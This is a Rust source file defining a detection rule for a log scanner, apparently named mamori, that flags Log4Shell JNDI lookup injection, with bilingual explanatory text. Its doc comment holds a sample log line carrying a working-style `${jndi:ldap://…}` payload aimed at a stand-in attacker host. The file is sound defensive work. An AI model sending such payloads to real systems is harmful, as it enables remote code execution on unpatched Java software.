//! MAM-W004 jndi-injection: JNDI lookup injection (Log4Shell)
//!
//! Example: `GET / HTTP/1.1" 400 0 "-" "${jndi:ldap://198.51.100.1/a}`
//! Legal category: セキュリティ・ホール攻撃型 (Act Art. 3-2 (2)).

use crate::rules::RuleMeta;
use mamori_core::{ActCategory, Severity, Text};

/// Rule metadata.
pub static META: RuleMeta = RuleMeta {
    id: "MAM-W004",
    name: "jndi-injection",
    category: ActCategory::SecurityHoleAttack,
    severity: Severity::Medium,
    title: Text::new(
        "JNDI インジェクション（Log4Shell）",
        "JNDI lookup injection (Log4Shell)",
    ),
    explanation: Text::new(
        "Log4Shell（CVE-2021-44228）などを狙う ${jndi:…} 文字列が送られています。Java 製ソフトウェアの更新状況を確認してください。",
        "Requests carry ${jndi:…} strings aimed at Log4Shell (CVE-2021-44228) and similar flaws: check that Java software is patched.",
    ),
};
